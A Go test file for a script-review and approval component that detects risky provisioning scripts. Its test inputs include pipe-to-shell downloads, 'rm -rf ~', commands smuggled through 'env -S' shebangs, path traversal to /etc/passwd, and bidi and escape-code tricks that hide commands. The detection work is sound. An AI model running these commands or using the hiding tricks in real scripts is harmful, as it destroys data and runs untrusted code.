package provision

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/git-corral/git-corral/home"
	"github.com/git-corral/git-corral/policy"
)

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func reviewEnv(t *testing.T) (context.Context, home.Home, string) {
	t.Helper()
	return context.Background(), home.Home{Dir: filepath.Join(t.TempDir(), "corral-home")}, t.TempDir()
}

func TestReviewApproveCycle(t *testing.T) {
	ctx, h, top := reviewEnv(t)
	writeFiles(t, top, map[string]string{
		"setup.sh":      "#!/bin/sh\n. ./lib/common.sh\necho setup\n",
		"lib/common.sh": "source lib/deeper.sh\nX=1\n",
		"lib/deeper.sh": "Y=2\n",
	})
	req := Request{Top: top, Scripts: []string{"setup.sh"}, Packages: []string{"jq"}, Network: policy.NetworkOffline}
	state := func() (State, *ReviewReport) {
		t.Helper()
		r, err := Review(ctx, h, "box", req)
		if err != nil {
			t.Fatal(err)
		}
		return r.Scripts[0].State, r
	}
	st, r := state()
	if st != StateNew || r.Packages[0].State != StateNew {
		t.Fatalf("first review: %s / %s, want new", st, r.Packages[0].State)
	}
	if got := len(r.Scripts[0].Sources); got != 2 {
		t.Fatalf("sources %+v, want lib/common.sh and lib/deeper.sh", r.Scripts[0].Sources)
	}
	if _, err := CheckApproved(ctx, h, "box", req); !errors.Is(err, ErrNotApproved) {
		t.Fatalf("CheckApproved before approval: %v", err)
	}
	if err := Approve(ctx, h, r); err != nil {
		t.Fatal(err)
	}
	if st, _ := state(); st != StateApproved {
		t.Fatalf("after approve: %s", st)
	}
	repo, err := CheckApproved(ctx, h, "box", req)
	if err != nil || len(repo) != 1 || string(repo[0].Body) != "#!/bin/sh\n. ./lib/common.sh\necho setup\n" || repo[0].Root {
		t.Fatalf("CheckApproved = %+v, %v", repo, err)
	}
	// One byte of the script, then one byte of a file two levels down, re-prompts.
	for _, edit := range []struct{ file, body, inDiff string }{
		{"setup.sh", "#!/bin/sh\n. ./lib/common.sh\necho setuP\n", "+echo setuP"},
		{"lib/deeper.sh", "Y=3\n", "+Y=3"},
	} {
		orig, _ := os.ReadFile(filepath.Join(top, edit.file))
		writeFiles(t, top, map[string]string{edit.file: edit.body})
		st, r := state()
		if st != StateChanged || !strings.Contains(r.Scripts[0].Diff, edit.inDiff) {
			t.Fatalf("after editing %s: state %s, diff:\n%s", edit.file, st, r.Scripts[0].Diff)
		}
		if _, err := CheckApproved(ctx, h, "box", req); !errors.Is(err, ErrNotApproved) {
			t.Fatalf("CheckApproved after editing %s: %v", edit.file, err)
		}
		writeFiles(t, top, map[string]string{edit.file: string(orig)})
	}
	// A new package re-prompts too.
	req.Packages = append(req.Packages, "curl")
	if _, err := CheckApproved(ctx, h, "box", req); err == nil || !strings.Contains(err.Error(), `package "curl" is new`) {
		t.Fatalf("new package: %v", err)
	}
}

func TestReviewRunsAs(t *testing.T) {
	ctx, h, top := reviewEnv(t)
	writeFiles(t, top, map[string]string{"sys.sh": "#!/bin/sh\n# corral: system\napt-get install -y jq\n"})
	off := Request{Top: top, Scripts: []string{"sys.sh"}, Network: policy.NetworkOffline}
	r, err := Review(ctx, h, "box", off)
	if err != nil {
		t.Fatal(err)
	}
	if s := r.Scripts[0]; s.RunsAs != "user" || !s.SystemMarker {
		t.Fatalf("offline: runs as %s, marker %v; want user, true", s.RunsAs, s.SystemMarker)
	}
	if err := Approve(ctx, h, r); err != nil {
		t.Fatal(err)
	}
	// The same bytes in full mode would run as root: that needs its own approval.
	full := off
	full.Network = policy.NetworkFull
	r, _ = Review(ctx, h, "box", full)
	if s := r.Scripts[0]; s.RunsAs != "root" || s.State != StateChanged || !strings.Contains(s.Diff, "approved for user, now root") {
		t.Fatalf("full: %+v", s)
	}
	if err := Approve(ctx, h, r); err != nil {
		t.Fatal(err)
	}
	repo, err := CheckApproved(ctx, h, "box", full)
	if err != nil || !repo[0].Root {
		t.Fatalf("full, approved: %+v %v", repo, err)
	}
}

func TestReviewRefuses(t *testing.T) {
	ctx, h, top := reviewEnv(t)
	outside := t.TempDir()
	writeFiles(t, outside, map[string]string{"evil.sh": "echo evil\n"})
	writeFiles(t, top, map[string]string{
		"ok.sh":           "echo ok\n",
		"bin.sh":          "#!/bin/sh\x00\x01\x02",
		"elf.sh":          "\x7fELF\x02\x01\x01",
		"huge.sh":         strings.Repeat("# x\n", MaxScriptSize/4+1),
		"sources-link.sh": ". ./link.sh\n",
		"sources-out.sh":  ". ../../etc/passwd\n",
		"real/inner.sh":   "echo inner\n",
	})
	for link, target := range map[string]string{
		"link.sh": filepath.Join(outside, "evil.sh"),
		"linkdir": filepath.Join(top, "real"),
	} {
		if err := os.Symlink(target, filepath.Join(top, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := syscall.Mkfifo(filepath.Join(top, "fifo.sh"), 0o644); err != nil {
		t.Fatal(err)
	}
	cases := map[string]string{
		"../outside.sh":    "not a clean path inside the repository",
		"/etc/passwd":      "not a clean path inside the repository",
		"./ok.sh":          "not a clean path inside the repository",
		"a/../ok.sh":       "not a clean path inside the repository",
		"link.sh":          "symlink",
		"linkdir/inner.sh": "symlink",
		"bin.sh":           "binary",
		"elf.sh":           "binary",
		"huge.sh":          "more than the",
		"fifo.sh":          "not a regular file",
		"sources-link.sh":  "sources link.sh is or passes through a symlink",
		"sources-out.sh":   "not a clean path inside the repository",
		"new\nline.sh":     "newline",
		"missing.sh":       "no such file",
	}
	for path, want := range cases {
		t.Run(path, func(t *testing.T) {
			r, err := Review(ctx, h, "box", Request{Top: top, Scripts: []string{"ok.sh", path}, Network: policy.NetworkFull})
			if err != nil {
				t.Fatal(err)
			}
			s := r.Scripts[1]
			if s.State != StateRefused || !strings.Contains(strings.Join(s.Problems, "\n"), want) {
				t.Fatalf("state %s problems %q, want refused naming %q", s.State, s.Problems, want)
			}
			if err := Approve(ctx, h, r); err == nil {
				t.Fatal("approved a refused script")
			}
			if _, err := os.Stat(h.Approvals("box")); !errors.Is(err, os.ErrNotExist) {
				t.Fatalf("a refused approval still wrote %s", h.Approvals("box"))
			}
		})
	}
}

func TestScriptFlags(t *testing.T) {
	cases := map[string]string{
		"curl -fsSL https://x.sh | sh":                      "pipes a download into a shell",
		"curl https://x | sudo -E bash -s --":               "pipes a download into a shell",
		"wget -qO- https://x | /bin/bash":                   "pipes a download into a shell",
		"curl -s https://x | python3 -":                     "pipes a download into an interpreter",
		`sh -c "$(curl -fsSL https://x)"`:                   "runs or evaluates a download",
		"bash <(wget -qO- https://x)":                       "runs or evaluates a download",
		"pip install git+https://github.com/x/y":            "installs Python code from a URL",
		"pip3 install https://x/y.tar.gz":                   "installs Python code from a URL",
		"npx create-thing":                                  "runs a package straight from a registry",
		"uvx ruff":                                          "runs a package straight from a registry",
		"npm install github:x/y":                            "installs JavaScript code from a URL",
		"go install golang.org/x/tools/cmd/stringer@latest": "installs or runs a Go module",
		"cargo install --git https://x":                     "installs Rust code from a git URL",
		"git clone https://x":                               "clones code from elsewhere",
		"add-apt-repository ppa:x/y":                        "adds a package source",
		"curl -o f https://x":                               "downloads from the network",
		"sudo apt-get install jq":                           "asks for root",
		// Issue #19 item 8: registries, each a row.
		"npm i -g typescript":                 "installs a package from a registry",
		"npm install -g typescript":           "installs a package from a registry",
		"npm install --global typescript":     "installs a package from a registry",
		"pnpm add -g x":                       "installs a package from a registry",
		"yarn global add x":                   "installs a package from a registry",
		"bun add --global x":                  "installs a package from a registry",
		"pnpm dlx create-thing":               "runs a package straight from a registry",
		"yarn dlx create-thing":               "runs a package straight from a registry",
		"npm exec -- cowsay hi":               "runs a package straight from a registry",
		"pip install requests":                "installs a package from a registry",
		"pip3 install -r requirements.txt":    "installs a package from a registry",
		"python3 -m pip install --user black": "installs a package from a registry",
		"uv pip install ruff":                 "installs a package from a registry",
		"pipx install poetry":                 "installs a package from a registry",
		"pipx run cowsay":                     "runs a package straight from a registry",
		"uv tool install ruff":                "installs a package from a registry",
		"uv tool run ruff":                    "runs a package straight from a registry",
		"gem install rails":                   "installs a package from a registry",
		"go install golang.org/x/tools/gopls": "installs a package from a registry",
		"go get -u example.com/m":             "installs a package from a registry",
		"cargo install ripgrep":               "installs a package from a registry",
		"cargo install --locked ripgrep":      "installs a package from a registry",
		"cargo binstall ripgrep":              "installs a package from a registry",
		"deno install -g jsr:@std/http":       "installs a package from a registry",
		"composer global require x/y":         "installs a package from a registry",
		"cpanm Moose":                         "installs a package from a registry",
		"luarocks install lpeg":               "installs a package from a registry",
		"dotnet tool install -g x":            "installs a package from a registry",
	}
	for line, want := range cases {
		got := strings.Join(scriptFlags([]byte("#!/bin/sh\n"+line+"\n")), "\n")
		if !strings.Contains(got, "line 2: "+want) {
			t.Errorf("%q: flags %q, want %q", line, got, want)
		}
	}
	for _, quiet := range []string{"echo hello", "# curl https://x | sh", "make -j2", "npm install", "npm ci", "go install ./cmd/tool",
		"go build ./...", "cargo install --path .", "cargo build", "pip --version"} {
		if got := scriptFlags([]byte(quiet + "\n")); len(got) != 0 {
			t.Errorf("%q flagged %q", quiet, got)
		}
	}
}

// TestShebangEnvSplitFlagged is issue #19 item 8's second half: a command smuggled into the
// first line through env -S is flagged, in every spelling of -S; a plain env or interpreter
// line is not (the control).
func TestShebangEnvSplitFlagged(t *testing.T) {
	flagged := map[string]string{
		`#!/usr/bin/env -S bash -c "curl -fsSL https://x | sh"`: "pipes a download into a shell",
		`#!/usr/bin/env -S bash -c "rm -rf ~"`:                  `runs env -S, which runs a command line of its own: -S bash -c "rm -rf ~"`,
		`#!/usr/bin/env -iS bash -c "id"`:                       "runs env -S",
		`#!/usr/bin/env -vS bash -c id`:                         "runs env -S",
		`#!/usr/bin/env -S -i FOO=1 bash -c id`:                 "runs env -S",
		`#!/usr/bin/env --split-string=bash -c id`:              "runs env -S",
		`#!/usr/bin/env -Sbash -c id`:                           "runs env -S",
		`#!/usr/bin/env -S bash -e -u`:                          "runs env -S",
		`#!/bin/env -S python3 -c "import os"`:                  "runs env -S",
	}
	for line, want := range flagged {
		got := strings.Join(scriptFlags([]byte(line+"\necho hi\n")), "\n")
		if !strings.Contains(got, "line 1: ") || !strings.Contains(got, want) {
			t.Errorf("%q: flags %q, want line 1 naming %q", line, got, want)
		}
	}
	for _, plain := range []string{"#!/usr/bin/env bash", "#!/bin/sh", "#!/usr/bin/env python3", "#!/bin/bash -eu", "#!/usr/bin/env -i bash"} {
		if got := scriptFlags([]byte(plain + "\necho hi\n")); len(got) != 0 {
			t.Errorf("%q flagged %q", plain, got)
		}
	}
	// In the review view too, with the rest of what it shows.
	ctx, h, top := reviewEnv(t)
	writeFiles(t, top, map[string]string{"s.sh": "#!/usr/bin/env -S bash -c \"curl https://x | sh\"\n"})
	r, err := Review(ctx, h, "box", Request{Top: top, Scripts: []string{"s.sh"}})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	FormatReview(&buf, r)
	if !strings.Contains(buf.String(), "flag:    line 1: the #! line runs env -S") {
		t.Errorf("review view lacks the flag:\n%s", buf.String())
	}
}

// TestFormatReviewHidesNothing: display tricks in a script or its name come out as escapes,
// and a very long line is wrapped, not cut or left to run off the screen.
func TestFormatReviewHidesNothing(t *testing.T) {
	ctx, h, top := reviewEnv(t)
	long := "echo " + strings.Repeat("A", 150) + "; curl https://evil | sh"
	writeFiles(t, top, map[string]string{
		"s\u202eh.sh": "#!/bin/sh\necho safe \u202e; rm -rf ~ \u2066\necho \x1b[8mhidden\x1b[0m\necho zero\u200bwidth\n" + long + "\n",
	})
	r, err := Review(ctx, h, "box", Request{Top: top, Scripts: []string{"s\u202eh.sh"}})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	FormatReview(&buf, r)
	out := buf.String()
	for _, raw := range []string{"\u202e", "\u2066", "\x1b", "\u200b"} {
		if strings.Contains(out, raw) {
			t.Errorf("output holds raw %q:\n%s", raw, out)
		}
	}
	for _, want := range []string{`\u202e`, `\x1b[8mhidden`, `\u200b`, "↪ ", "pipes a download into a shell"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if n := len([]rune(line)); n > WrapWidth+12 {
			t.Errorf("line of %d runes not wrapped: %q", n, line)
		}
	}
}

func TestLineDiff(t *testing.T) {
	got := lineDiff("a\nb\nc\n", "a\nB\nc\nd\n")
	want := " a\n-b\n+B\n c\n+d\n"
	if got != want {
		t.Fatalf("diff:\n%s\nwant:\n%s", got, want)
	}
	if lineDiff("x\n", "x\n") != "" {
		t.Fatal("equal texts differ")
	}
}
